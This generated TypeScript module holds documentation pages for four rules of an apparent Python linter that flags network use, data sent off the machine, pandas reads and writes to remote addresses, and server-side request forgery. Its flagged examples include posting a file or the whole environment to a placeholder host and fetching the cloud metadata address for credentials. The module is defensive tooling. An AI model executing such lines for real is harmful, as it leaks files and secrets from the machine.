// Written by scripts/rule-pages.mjs.
export const pages: Readonly<Record<string, string>> = {
  'data-sent-away': `# data-sent-away

The contents of a file, or the environment, in the body of a request: this is what stealing looks like. A token in a header is what headers are for and is not reported.

## How to fix

Give results back as the answer. Where an upload is the point, run with an egress policy that names the host.

## Bad

\`\`\`python
import os
import socket

import requests

with open("report.csv", "rb") as file:
    body = file.read()


def send(data):
    requests.post("https://example.com/in", data=data)  # error: [data-sent-away]


send(body)
requests.post("https://example.com/in", json={"e": dict(os.environ)})  # error: [data-sent-away]
requests.post("https://example.com/in", files={"f": open("a")})  # error: [data-sent-away]
link = socket.socket()
link.sendall(body)  # error: [data-sent-away]
\`\`\`

## Good

\`\`\`python
import os

import requests

requests.post("https://example.com/in", json={"a": 1})
requests.get("https://example.com", headers={"Authorization": os.environ["TOKEN"]})
\`\`\`
`,
  'frame-from-address': `# frame-from-address

\`pandas.read_csv\`, \`to_parquet\` and their like take addresses (\`https://\`, \`s3://\`, \`ftp://\`, \`file://\`) as well as paths. A line that looks like reading a file is then a download, and one that looks like saving a table sends it away.

## How to fix

Ask for the data as a dataset; give results back as the answer.

## Bad

\`\`\`python
import pandas as pd

base = "https://example.com/"
df = pd.read_csv(base + "bonds.csv")  # error: [frame-from-address]
df.to_parquet("s3://bucket/bonds.parquet")  # error: [frame-from-address]
pages = pd.read_html("https://example.com")  # error: [frame-from-address]
\`\`\`

## Good

\`\`\`python
import pandas as pd

df = pd.read_csv("bonds.csv")
df.to_csv("out.csv")
\`\`\`
`,
  'network-used': `# network-used

What a script sends away cannot be taken back, and what it fetches nobody has seen. The sandbox has no network; where a run is given a door to it, HTTP clients pass through that door and are not reported here, everything else still is.

## How to fix

Ask for the data as a dataset. Where the network is the point, run with an egress policy that names the hosts.

## Bad

\`\`\`python
import http.client
import socket
import urllib.request

import requests
import seaborn as sns
from requests import Session

requests.post("https://example.com/in", data="x")  # error: [network-used]
with urllib.request.urlopen("https://example.com") as answer:  # error: [network-used]
    print(answer.read())
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # error: [network-used]
client = http.client.HTTPSConnection("example.com")  # error: [network-used]
session = Session()
session.get("https://example.com")  # error: [network-used]
tips = sns.load_dataset("tips")  # error: [network-used]
\`\`\`

## Good

\`\`\`python
import urllib.parse

from sklearn.datasets import load_iris

parts = urllib.parse.urlparse("https://example.com")
iris = load_iris()
values = {"a": 1}
values.get("https://example.com")
\`\`\`
`,
  'request-forgery': `# request-forgery

Whoever says where a request goes can have it go inside: to \`http://169.254.169.254/\` for the machine's credentials, to a database on the same network, to \`file://\`. The answer comes back to him, and the request carries the server's rights. Where scheme and host are constant and only the rest is chosen, nothing is reported.

## How to fix

Choose the host from a fixed list, and check the resolved address against private and link-local ranges, at every redirect again.

## Bad

\`\`\`python
import requests
from fastapi import FastAPI
from flask import request

app = FastAPI()


@app.get("/fetch")
async def fetch(url: str):
    return requests.get(url).text  # error: [request-forgery]


def proxy():
    target = "http://" + request.args["host"] + "/status"
    return requests.get(target)  # error: [request-forgery]


first = requests.get("https://example.com/next").text
second = requests.get(first)  # error: [request-forgery]
\`\`\`

## Good

\`\`\`python
import requests
from fastapi import FastAPI

app = FastAPI()


@app.get("/item")
async def item(name: str):
    return requests.get(f"https://api.example.com/items/{name}").json()


requests.get("https://example.com", params={"q": 1})
\`\`\`
`,
}
